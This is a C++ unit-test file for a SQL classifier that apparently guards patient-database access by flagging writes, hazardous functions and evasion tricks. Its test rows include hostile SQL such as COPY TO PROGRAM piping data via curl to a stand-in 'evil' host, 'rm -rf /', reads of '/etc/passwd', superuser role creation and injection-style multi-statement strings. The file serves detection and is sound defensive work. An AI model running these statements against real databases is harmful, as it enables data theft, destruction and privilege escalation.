// A wide table of statements and what the classifier must say about each: kind, whether it writes,
// tables with their operations, columns, functions, WHERE/LIMIT, PREPARE/EXECUTE names — including
// the spellings people use to slip past text-based guardrails (comments, case, quoting, unicode
// escapes, dollar quoting, multi-statement strings, data-modifying CTEs, EXPLAIN ANALYZE,
// SELECT INTO, COPY PROGRAM, side-effect functions).
#include <gtest/gtest.h>

#include <map>
#include <sstream>
#include <string>
#include <vector>

#include "sql/classify.h"

namespace phigate::sql {
namespace {

std::string join(const std::vector<std::string>& v) {
  std::string out;
  for (const std::string& s : v) out += (out.empty() ? "" : ",") + s;
  return out;
}

// Every fact of a statement as key=value; a test row names the keys it cares about.
std::map<std::string, std::string> facts(const Statement& st) {
  std::map<std::string, std::string> f;
  f["kind"] = kind_name(st.kind);
  f["inner"] = kind_name(st.inner_kind);
  f["writes"] = st.writes ? "1" : "0";
  f["where"] = st.has_where ? "1" : "0";
  f["limit"] = st.has_limit ? "1" : "0";
  f["plumbing"] = st.plumbing ? "1" : "0";
  f["identity"] = st.changes_identity ? "1" : "0";
  f["nexec"] = st.nested_execute ? "1" : "0";
  f["lexer"] = st.lexer_unsafe.empty() ? "0" : "1";
  f["shadow"] = st.shadows_builtins.empty() ? "0" : "1";
  std::string tables;
  for (size_t i = 0; i < st.tables.size(); ++i) {
    tables += (i ? " " : "") + st.tables[i] + ":" + table_op_names(st.table_ops[i]);
  }
  f["tables"] = tables;
  f["cols"] = join(st.columns);
  f["funcs"] = join(st.functions);
  f["impure"] = st.impure_function;
  f["hazards"] = join(st.hazard_functions);
  std::string nested;
  for (Kind k : st.nested_kinds) nested += (nested.empty() ? "" : ",") + std::string(kind_name(k));
  f["nested"] = nested;
  f["name"] = st.prepared_name;
  f["cursor"] = st.cursor_name + (st.declares_cursor ? "(declare)" : "");
  return f;
}

// "kind=select writes=0 tables=t:read|u:update" — values cannot hold spaces, so '|' stands for one
// (between tables) and an empty value is written `key=`.
std::map<std::string, std::string> parse_spec(const std::string& spec) {
  std::map<std::string, std::string> out;
  std::istringstream in(spec);
  std::string item;
  while (in >> item) {
    auto eq = item.find('=');
    std::string value = item.substr(eq + 1);
    for (char& c : value)
      if (c == '|') c = ' ';
    out[item.substr(0, eq)] = value;
  }
  return out;
}

struct Row {
  const char* sql;
  const char* spec;  // facts of the first statement (and `n=` the number of statements)
};

void check(const Row& r) {
  Classification c = classify_uncached(r.sql);
  auto want = parse_spec(r.spec);
  if (want.count("error")) {
    EXPECT_FALSE(c.ok) << r.sql;
    return;
  }
  ASSERT_TRUE(c.ok) << r.sql << ": " << c.error;
  if (auto n = want.find("n"); n != want.end()) {
    EXPECT_EQ(std::to_string(c.statements.size()), n->second) << r.sql;
    want.erase(n);
  }
  ASSERT_FALSE(c.statements.empty()) << r.sql;
  // `any.` keys check that some statement of a multi-statement string has the fact.
  auto got = facts(c.statements[0]);
  for (const auto& [k, v] : want) {
    if (k.rfind("any.", 0) == 0) {
      bool found = false;
      for (const Statement& st : c.statements) found = found || facts(st)[k.substr(4)] == v;
      EXPECT_TRUE(found) << r.sql << " : no statement has " << k.substr(4) << "=" << v;
      continue;
    }
    ASSERT_TRUE(got.count(k)) << "unknown key " << k;
    EXPECT_EQ(got[k], v) << r.sql << " : " << k;
  }
}

// CTE names are listed as tables (read): the scan cannot tell a CTE reference from a relation
// without scoping, and listing it only ever makes a table-scoped allow rule stricter.
TEST(ClassifyTable, Reads) {
  const Row rows[] = {
      {"SELECT 1", "kind=select writes=0 tables= cols= funcs= impure= limit=0"},
      {"select abalance from pgbench_accounts where aid = 4711;",
       "kind=select writes=0 tables=pgbench_accounts:read cols=abalance,aid"},
      {"SELECT p.id, v.notes FROM patients p JOIN visits v ON v.patient_id = p.id WHERE p.id = 7",
       "kind=select writes=0 tables=patients:read|visits:read cols=p.id,v.notes,v.patient_id"},
      {"SELECT * FROM patients", "kind=select cols=* tables=patients:read writes=0"},
      {"SELECT p.* FROM patients p", "cols=p.* writes=0"},
      {"SELECT \"SSN\" FROM \"Patients\"", "cols=SSN tables=Patients:read"},
      {"SELECT ssn FROM public.patients", "tables=public.patients:read cols=ssn"},
      {"SELECT x FROM clinic.public.patients", "tables=clinic.public.patients:read"},
      {"SELECT a FROM t LIMIT 5", "limit=1 writes=0"},
      {"SELECT a FROM t FETCH FIRST 3 ROWS ONLY", "limit=1"},
      {"SELECT a FROM t OFFSET 3", "limit=0"},
      {"SELECT a FROM t ORDER BY a LIMIT 10 OFFSET 20", "limit=1 cols=a"},
      {"(SELECT a FROM t) UNION (SELECT b FROM u) LIMIT 2",
       "limit=1 tables=t:read|u:read cols=a,b"},
      {"SELECT count(*) FROM t", "funcs=count impure= cols= writes=0"},
      {"SELECT lower(name), upper(name), length(name) FROM t",
       "funcs=lower,upper,length impure= writes=0"},
      {"SELECT coalesce(a, 0), nullif(b, 1), greatest(a, b) FROM t", "impure= writes=0"},
      {"SELECT date_trunc('day', now()), sum(x), avg(x) FROM t",
       "funcs=date_trunc,now,sum,avg "
       "impure="},
      {"SELECT pg_catalog.lower('X')", "funcs=pg_catalog.lower impure="},
      {"SELECT public.lower('X')", "funcs=public.lower impure=public.lower writes=0"},
      {"SELECT \"LOWER\"('X')", "funcs=LOWER impure=LOWER"},
      {"SELECT my_func(1)", "kind=select funcs=my_func impure=my_func writes=0"},
      {"SELECT substr(ssn, 1, 3), to_char(dob, 'YYYY') FROM patients", "impure= writes=0"},
      {"SELECT * FROM generate_series(1, 10) g", "funcs=generate_series impure= tables="},
      {"SELECT row_number() OVER (ORDER BY a) FROM t", "funcs=row_number impure="},
      {"SELECT string_agg(name, ',') FROM t GROUP BY k HAVING count(*) > 1",
       "funcs=string_agg,count impure="},
      {"SELECT * FROM a WHERE id IN (SELECT aid FROM b WHERE bid IN (SELECT id FROM c))",
       "tables=a:read|b:read|c:read writes=0"},
      {"SELECT EXISTS (SELECT 1 FROM e1), (SELECT max(x) FROM e2)",
       "tables=e1:read|e2:read funcs=max"},
      {"SELECT * FROM (SELECT * FROM inner_t) s JOIN LATERAL (SELECT * FROM lat_t) l ON true",
       "tables=inner_t:read|lat_t:read"},
      {"WITH x AS (SELECT * FROM t) SELECT * FROM x", "kind=select writes=0 nested="},
      {"WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT * "
       "FROM r",
       "kind=select writes=0"},
      {"VALUES (1, 'a'), (2, 'b')", "kind=select writes=0 tables="},
      {"TABLE some_table", "kind=select tables=some_table:read writes=0"},
      {"SELECT * FROM ONLY parent_t", "tables=parent_t:read"},
      {"SELECT * FROM t TABLESAMPLE SYSTEM (10)", "tables=t:read writes=0"},
      {"DECLARE c CURSOR FOR SELECT * FROM t", "kind=select tables=t:read writes=0"},
      {"DECLARE c SCROLL CURSOR WITH HOLD FOR SELECT a FROM t", "kind=select cursor=c(declare)"},
      {"FETCH FORWARD 5 FROM \"Cur\"", "kind=fetch cursor=Cur"},
      {"CLOSE ALL", "kind=close cursor="},
      {"CLOSE c", "kind=close cursor=c"},
      {"FETCH 10 FROM c", "kind=fetch plumbing=1 writes=0"},
      {"MOVE NEXT IN c", "kind=fetch plumbing=1"},
      {"CLOSE c", "kind=close plumbing=1 writes=0"},
      {"SELECT $1::int", "kind=select writes=0"},
      {"SELECT a FROM t WHERE b = $1 AND c = $2", "cols=a,b,c"},
      {"SELECT * FROM t WHERE data @> '{\"a\": 1}'::jsonb", "writes=0"},
      {"SELECT CASE WHEN a > 0 THEN 'p' ELSE 'n' END FROM t", "writes=0 cols=a"},
      {"SELECT CURRENT_TIMESTAMP, CURRENT_USER, session_user", "writes=0 funcs="},
      {"SELECT 'DELETE FROM patients'", "kind=select writes=0 tables="},
      {"SELECT $$DROP TABLE patients$$", "kind=select writes=0 tables="},
      {"SELECT $tag$ ; DELETE FROM t; $tag$", "kind=select n=1 writes=0"},
      {"SELECT E'\\'; DROP TABLE t; --'", "kind=select n=1 writes=0"},
      {"SELECT U&'\\0044ROP TABLE t'", "kind=select n=1 writes=0"},
      {"SELECT U&\"d\\0061ta\" FROM t", "kind=select cols=data"},
      {"SELECT * FROM U&\"p\\0061tients\"", "tables=patients:read"},
      {"SELECT 1 /* ; DELETE FROM t */", "kind=select n=1"},
      {"SELECT 1 -- ; DELETE FROM t", "kind=select n=1"},
      {"/* nested /* comment */ ; DELETE FROM t */ SELECT 1", "kind=select n=1"},
      {"SeLeCt * FrOm PaTiEnTs", "tables=patients:read kind=select"},
      {"SELECT * FROM t FOR UPDATE", "kind=select writes=1"},
      {"SELECT * FROM t FOR SHARE NOWAIT", "kind=select writes=1"},
      {"SELECT * FROM t FOR NO KEY UPDATE SKIP LOCKED", "writes=1"},
      {"SELECT * FROM t FOR KEY SHARE", "writes=1"},
      {"SHOW search_path", "kind=show plumbing=1 writes=0"},
      {"SHOW ALL", "kind=show writes=0"},
      {"SELECT version()", "funcs=version impure= writes=0"},
      {"SELECT md5(ssn) FROM patients", "impure= writes=0"},
      {"SELECT jsonb_build_object('a', a) FROM t", "impure="},
      {"SELECT * FROM json_each('{}'::json)", "funcs=json_each impure="},
      {"SELECT unnest(ARRAY[1,2])", "funcs=unnest impure="},
      {"SELECT a FROM t WHERE a ~ 'x' AND b LIKE 'y%'", "writes=0 impure="},
      {"SELECT current_setting('search_path'), pg_backend_pid()", "impure= writes=0"},
      {"SELECT pg_catalog.pg_table_is_visible(c.oid), pg_catalog.format_type(a.atttypid, NULL) "
       "FROM pg_catalog.pg_class c, pg_catalog.pg_attribute a",
       "impure= writes=0 tables=pg_catalog.pg_class:read|pg_catalog.pg_attribute:read"},
      {"SELECT pg_advisory_lock(1)", "impure=pg_advisory_lock writes=0"},
      {"SELECT pg_sleep(10)", "impure=pg_sleep writes=0"},
      {"SELECT txid_current()", "impure=txid_current"},
  };
  for (const Row& r : rows) check(r);
}

TEST(ClassifyTable, Writes) {
  const Row rows[] = {
      {"INSERT INTO t VALUES (1)", "kind=insert writes=1 tables=t:insert"},
      {"INSERT INTO t (a, b) SELECT x, y FROM s", "kind=insert tables=t:insert|s:read cols=x,y"},
      {"INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = EXCLUDED.a",
       "kind=insert writes=1 tables=t:insert"},
      {"INSERT INTO t VALUES (1) RETURNING *", "kind=insert cols=*"},
      {"INSERT INTO public.patients (id) VALUES (nextval('s'))",
       "kind=insert tables=public.patients:insert hazards=nextval"},
      {"UPDATE t SET a = 1 WHERE id = 2", "kind=update writes=1 where=1 tables=t:update cols=id"},
      {"UPDATE t SET a = 1", "kind=update where=0 writes=1"},
      {"UPDATE t SET a = s.a FROM s WHERE s.id = t.id",
       "kind=update where=1 tables=t:update|s:read"},
      {"UPDATE t SET a = 1 WHERE CURRENT OF c", "kind=update where=1"},
      {"update ONLY t set a = a + 1 where true", "kind=update where=1"},
      {"DELETE FROM t", "kind=delete where=0 writes=1 tables=t:delete"},
      {"DELETE FROM t WHERE id = 1", "kind=delete where=1"},
      {"DELETE FROM t USING u WHERE t.id = u.id", "kind=delete where=1 tables=t:delete|u:read"},
      {"/* x */ DeLeTe FROM t", "kind=delete where=0"},
      {"DELETE FROM \"Patients\" WHERE 1=1", "kind=delete tables=Patients:delete where=1"},
      {"TRUNCATE t", "kind=delete where=0 writes=1 tables=t:truncate"},
      {"TRUNCATE TABLE a, b RESTART IDENTITY CASCADE", "kind=delete tables=a:truncate|b:truncate"},
      {"MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
       "kind=merge writes=1 tables=t:merge|s:read"},
      {"MERGE INTO t USING (SELECT * FROM s) src ON t.id = src.id WHEN NOT MATCHED THEN INSERT "
       "VALUES (src.id)",
       "kind=merge writes=1"},
      {"WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
       "kind=select writes=1 nested=delete where=0 tables=t:delete|d:read"},
      {"WITH u AS (UPDATE t SET a = 1 WHERE id = 1 RETURNING *) SELECT * FROM u",
       "kind=select writes=1 nested=update where=1 tables=t:update|u:read"},
      {"WITH i AS (INSERT INTO t VALUES (1) RETURNING id) SELECT id FROM i",
       "kind=select writes=1 nested=insert"},
      {"WITH a AS (SELECT 1), b AS (DELETE FROM t RETURNING 1) SELECT * FROM a",
       "kind=select writes=1 nested=delete"},
      {"WITH x AS (WITH y AS (DELETE FROM t RETURNING *) SELECT * FROM y) SELECT * FROM x",
       "kind=select writes=1 nested=delete"},
      {"WITH d AS (DELETE FROM t RETURNING *) INSERT INTO archive SELECT * FROM d",
       "kind=insert writes=1 nested=delete tables=t:delete|archive:insert|d:read"},
      {"SELECT a INTO t2 FROM t", "kind=ddl writes=1 tables=t2:ddl|t:read"},
      {"SELECT * INTO TEMP t2 FROM t", "kind=ddl writes=1"},
      {"CREATE TABLE x AS SELECT * FROM patients", "kind=ddl writes=1 tables=x:ddl|patients:read"},
      {"CREATE MATERIALIZED VIEW mv AS SELECT 1", "kind=ddl writes=1"},
      {"SELECT nextval('seq')", "kind=select writes=1 hazards=nextval impure=nextval"},
      {"SELECT setval('seq', 1)", "writes=1 hazards=setval"},
      {"SELECT pg_catalog.nextval('seq')", "writes=1"},
      {"SELECT lo_export(123, '/tmp/x')", "writes=1 hazards=lo_export"},
      {"SELECT lo_import('/etc/passwd')", "writes=1 hazards=lo_import"},
      {"SELECT pg_read_file('/etc/passwd')", "writes=1 hazards=pg_read_file"},
      {"SELECT * FROM pg_ls_dir('.')", "writes=1 hazards=pg_ls_dir"},
      {"SELECT pg_terminate_backend(123)", "writes=1"},
      {"SELECT pg_cancel_backend(pid) FROM pg_stat_activity", "writes=1"},
      {"SELECT dblink_exec('host=x', 'DROP TABLE t')", "writes=1 hazards=dblink_exec"},
      {"SELECT * FROM dblink('host=x', 'SELECT 1') AS t(a int)", "writes=1"},
      {"SELECT pg_notify('ch', 'x')", "writes=1"},
      {"SELECT query_to_xml('DELETE FROM t RETURNING *', true, true, '')",
       "writes=1 hazards=query_to_xml"},
      {"SELECT pg_reload_conf()", "writes=1"},
      {"SELECT id FROM t WHERE nextval('s') > 0", "writes=1"},
      {"SELECT * FROM t WHERE id = (SELECT setval('s', 5))", "writes=1"},
      {"SELECT set_config('role', 'admin', false)", "identity=1 writes=0 impure=set_config"},
      {"SELECT set_config('search_path', 'x', false)", "identity=0 impure=set_config"},
      {"UPDATE pg_settings SET setting = 'SJIS' WHERE name = 'client_encoding'",
       "kind=update lexer=1"},
      {"SELECT LO_UNLINK(1)", "writes=1 hazards=lo_unlink"},
  };
  for (const Row& r : rows) check(r);
}

TEST(ClassifyTable, CopyExplainProcedural) {
  const Row rows[] = {
      {"COPY t TO STDOUT", "kind=copy_to writes=0 tables=t:read"},
      {"COPY t (a, b) TO STDOUT WITH (FORMAT csv)", "kind=copy_to writes=0"},
      {"COPY (SELECT * FROM patients) TO STDOUT", "kind=copy_to writes=0 tables=patients:read"},
      {"COPY t TO '/tmp/out.csv'", "kind=copy_to writes=1"},
      {"COPY (SELECT 1) TO '/tmp/x'", "kind=copy_to writes=1"},
      {"COPY t FROM STDIN", "kind=copy_from writes=1 tables=t:insert"},
      {"COPY t FROM '/etc/passwd'", "kind=copy_from writes=1"},
      {"COPY t TO PROGRAM 'curl -d @- http://evil'", "kind=copy_program writes=1"},
      {"COPY t FROM PROGRAM 'id'", "kind=copy_program writes=1 tables=t:insert"},
      {"copy (select 1) to program 'rm -rf /'", "kind=copy_program writes=1"},
      {"COPY (DELETE FROM t RETURNING *) TO STDOUT", "kind=copy_to writes=1 nested=delete"},
      {"EXPLAIN SELECT * FROM t", "kind=explain inner=select writes=0 tables=t:read"},
      {"EXPLAIN ANALYZE SELECT * FROM t", "kind=explain inner=select writes=0"},
      {"EXPLAIN ANALYZE DELETE FROM t",
       "kind=explain inner=delete writes=1 nested=delete "
       "tables=t:delete"},
      {"EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1",
       "kind=explain inner=update writes=1 nested=update"},
      {"explain analyze insert into t values (1)", "kind=explain writes=1 nested=insert"},
      {"EXPLAIN ANALYZE CREATE TABLE x AS SELECT 1", "kind=explain writes=1 nested=ddl"},
      {"EXPLAIN ANALYZE SELECT * INTO t2 FROM t", "kind=explain writes=1 nested=ddl"},
      {"EXPLAIN ANALYZE SELECT nextval('s')", "kind=explain writes=1 hazards=nextval"},
      {"EXPLAIN ANALYZE EXECUTE p", "kind=explain writes=1 nexec=1"},
      {"CREATE TABLE x AS EXECUTE p", "kind=ddl writes=1 nexec=1"},
      {"DO $$ BEGIN DELETE FROM t; END $$", "kind=do writes=1 tables="},
      {"DO LANGUAGE plpgsql 'BEGIN PERFORM 1; END'", "kind=do writes=1"},
      {"do $x$ begin execute 'drop table t'; end $x$", "kind=do writes=1"},
      {"CALL proc(1)", "kind=call writes=1 funcs=proc impure=proc"},
      {"CALL public.archive_all()", "kind=call writes=1 funcs=public.archive_all"},
      {"CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN DELETE FROM t; RETURN 1; "
       "END $$",
       "kind=ddl writes=1 tables="},
      {"CREATE OR REPLACE PROCEDURE p() LANGUAGE sql AS 'DELETE FROM t'", "kind=ddl writes=1"},
      {"CREATE FUNCTION f() RETURNS int RETURN 1", "kind=ddl writes=1"},
      {"PREPARE p AS SELECT * FROM t WHERE id = $1",
       "kind=prepare inner=select writes=0 name=p tables=t:read"},
      {"PREPARE p (int) AS DELETE FROM t WHERE id = $1",
       "kind=prepare inner=delete writes=1 where=1 name=p nested=delete tables=t:delete"},
      {"PREPARE p AS DELETE FROM t", "kind=prepare inner=delete writes=1 where=0"},
      {"PREPARE p AS UPDATE t SET a = 1", "kind=prepare inner=update where=0"},
      {"PREPARE p AS INSERT INTO t VALUES ($1)", "kind=prepare inner=insert writes=1"},
      {"PREPARE p AS WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
       "kind=prepare inner=select writes=1 nested=delete"},
      {"PREPARE \"Mixed\" AS SELECT 1", "name=Mixed"},
      {"PREPARE p AS SELECT nextval('s')", "kind=prepare writes=1"},
      {"EXECUTE p", "kind=execute writes=1 name=p"},
      {"EXECUTE p(1, 'x')", "kind=execute name=p"},
      {"DEALLOCATE p", "kind=deallocate plumbing=1 name=p writes=0"},
      {"DEALLOCATE PREPARE p", "kind=deallocate name=p"},
      {"DEALLOCATE ALL", "kind=deallocate name="},
  };
  for (const Row& r : rows) check(r);
}

TEST(ClassifyTable, DdlGrantMaintenanceAndOther) {
  const Row rows[] = {
      {"CREATE TABLE t (a int)", "kind=ddl writes=1 tables=t:ddl"},
      {"CREATE TEMP TABLE t (a int)", "kind=ddl writes=1"},
      {"CREATE TABLE t (LIKE patients)", "kind=ddl tables=t:ddl|patients:read"},
      {"ALTER TABLE patients ADD COLUMN x int", "kind=ddl tables=patients:ddl"},
      {"ALTER TABLE t RENAME TO u", "kind=ddl"},
      {"DROP TABLE patients", "kind=ddl writes=1 tables=patients:ddl"},
      {"DROP TABLE IF EXISTS a, public.b CASCADE", "kind=ddl tables=a:ddl|public.b:ddl"},
      {"DROP VIEW v", "kind=ddl"},
      {"DROP SCHEMA public CASCADE", "kind=ddl writes=1"},
      {"DROP DATABASE clinic", "kind=ddl"},
      {"CREATE INDEX i ON t (a)", "kind=ddl tables=t:ddl"},
      {"CREATE INDEX CONCURRENTLY i ON t (lower(a))", "kind=ddl"},
      {"CREATE VIEW v AS SELECT * FROM patients", "kind=ddl tables=v:ddl|patients:read"},
      {"CREATE SEQUENCE s", "kind=ddl tables=s:ddl"},
      {"ALTER SEQUENCE s RESTART", "kind=ddl"},
      {"CREATE SCHEMA x", "kind=ddl"},
      {"CREATE EXTENSION dblink", "kind=ddl writes=1"},
      {"CREATE ROLE evil SUPERUSER", "kind=ddl"},
      {"ALTER ROLE phigate_clinic SUPERUSER", "kind=ddl"},
      {"ALTER SYSTEM SET log_statement = 'none'", "kind=ddl writes=1"},
      {"CREATE TRIGGER tr AFTER INSERT ON t EXECUTE FUNCTION f()", "kind=ddl tables=t:ddl"},
      {"CREATE RULE r AS ON SELECT TO t DO INSTEAD SELECT 1", "kind=ddl"},
      {"COMMENT ON TABLE t IS 'x'", "kind=ddl"},
      {"SECURITY LABEL ON TABLE t IS 'x'", "kind=ddl"},
      {"CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw", "kind=ddl"},
      {"IMPORT FOREIGN SCHEMA public FROM SERVER s INTO x", "kind=ddl"},
      {"REASSIGN OWNED BY a TO b", "kind=ddl"},
      {"DROP OWNED BY a", "kind=ddl"},
      {"GRANT SELECT ON patients TO bob", "kind=grant writes=1 tables=patients:grant"},
      {"GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC", "kind=grant writes=1"},
      {"REVOKE SELECT ON t FROM bob", "kind=grant"},
      {"GRANT admin TO bob", "kind=grant writes=1"},
      {"REVOKE admin FROM bob", "kind=grant"},
      {"ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob", "kind=grant"},
      {"VACUUM t", "kind=maintenance writes=1 tables=t:maintenance"},
      {"VACUUM FULL ANALYZE t", "kind=maintenance"},
      {"ANALYZE t", "kind=maintenance tables=t:maintenance"},
      {"ANALYZE", "kind=maintenance"},
      {"CLUSTER t USING i", "kind=maintenance"},
      {"REINDEX TABLE t", "kind=maintenance"},
      {"CHECKPOINT", "kind=maintenance writes=1"},
      {"REFRESH MATERIALIZED VIEW mv", "kind=maintenance tables=mv:maintenance"},
      {"LOCK TABLE t IN ACCESS EXCLUSIVE MODE", "kind=other writes=1 tables=t:lock"},
      {"LISTEN ch", "kind=other writes=1"},
      {"NOTIFY ch, 'x'", "kind=other writes=1"},
      {"LOAD 'auto_explain'", "kind=other writes=1"},
      {"SET CONSTRAINTS ALL DEFERRED", "kind=other"},
      {"BEGIN", "kind=transaction plumbing=1 writes=0"},
      {"START TRANSACTION READ ONLY", "kind=transaction plumbing=1"},
      {"COMMIT", "kind=transaction writes=0"},
      {"ROLLBACK TO SAVEPOINT s", "kind=transaction"},
      {"PREPARE TRANSACTION 'x'", "kind=transaction"},
      {"SET search_path TO public", "kind=set plumbing=1 writes=0"},
      {"SET statement_timeout = 0", "kind=set plumbing=1"},
      {"RESET ALL", "kind=set identity=1 plumbing=0"},
      {"SET ROLE admin", "kind=set identity=1 plumbing=0"},
      {"SET SESSION AUTHORIZATION postgres", "kind=set identity=1"},
      {"SET client_encoding = 'SJIS'", "kind=set lexer=1"},
      {"SET standard_conforming_strings = off", "lexer=1"},
      {"DISCARD ALL", "kind=discard plumbing=1 writes=0"},
      {"SET search_path TO public, pg_catalog", "kind=set shadow=1"},
      {"SET search_path = 'public, pg_catalog'", "shadow=1"},
      {"SET search_path = 'public,  PG_CATALOG'", "shadow=1"},
      {"SET search_path TO pg_catalog, public", "shadow=0 plumbing=1"},
      {"SET search_path TO public", "shadow=0"},
      {"SET search_path = \"PG_CATALOG\", x", "shadow=0"},
      {"SET search_path = '\"pg_catalog\"', x", "shadow=0"},
      {"SET search_path = x, '\"pg_catalog\"'", "shadow=1"},
      {"RESET search_path", "shadow=0"},
      {"SET search_path TO DEFAULT", "shadow=0"},
      {"SELECT set_config('search_path', 'x,pg_catalog', false)", "shadow=1"},
      {"SELECT set_config('search_path', '\"$user\", public', false)", "shadow=0"},
      {"SELECT set_config('search_path', current_user, false)", "shadow=1"},
      {"SELECT pg_catalog.set_config('SEARCH_PATH', 'a, pg_catalog', true)", "shadow=1 lexer=0"},
      {"SELECT set_config('search_path', 'a, pg_catalog', true), set_config('client_encoding', "
       "'SJIS', false)",
       "shadow=1 lexer=1"},
      {"SHOW search_path", "shadow=0"},
  };
  for (const Row& r : rows) check(r);
}

TEST(ClassifyTable, MultiStatementStringsAndErrors) {
  const Row rows[] = {
      {"SELECT 1; DELETE FROM t", "n=2 kind=select any.kind=delete"},
      {"SELECT 1;DROP TABLE t;", "n=2 any.kind=ddl"},
      {"BEGIN; DELETE FROM t; COMMIT", "n=3 any.kind=delete any.where=0"},
      {"select 1 -- ; drop table t\n; /* ; */ dRoP TaBlE \"T\"", "n=2 any.tables=T:ddl"},
      {"SELECT 'a;b'; SELECT $$;$$; UPDATE t SET a=';' WHERE b=1", "n=3 any.kind=update"},
      {"SET ROLE x; SELECT 1", "n=2 identity=1"},
      {"SELECT 1; COPY t TO PROGRAM 'id'", "n=2 any.kind=copy_program"},
      {"SELECT 1; DO $$ BEGIN END $$", "n=2 any.kind=do"},
      {"PREPARE a AS SELECT 1; EXECUTE a", "n=2 kind=prepare any.kind=execute"},
      {"SELECT 1 FROM", "error=1"},
      {"DELETE t", "error=1"},
      {"SELEC 1", "error=1"},
      {"SELECT 'unterminated", "error=1"},
      {"SELECT $$ unterminated", "error=1"},
      {"SELECT /* unterminated", "error=1"},
      {"SELECT 1; GARBAGE", "error=1"},
  };
  for (const Row& r : rows) check(r);
}

TEST(ClassifyTable, NulByteIsAnError) {
  std::string q("SELECT 1\0; DELETE FROM t", 24);
  EXPECT_FALSE(classify_uncached(q).ok);
}

TEST(ClassifyTable, TableOpNames) {
  EXPECT_EQ(table_op_names(kOpRead | kOpUpdate), "read,update");
  EXPECT_EQ(table_op_names(0), "");
  EXPECT_EQ(table_op_names(kOpTruncate), "truncate");
}

}  // namespace
}  // namespace phigate::sql
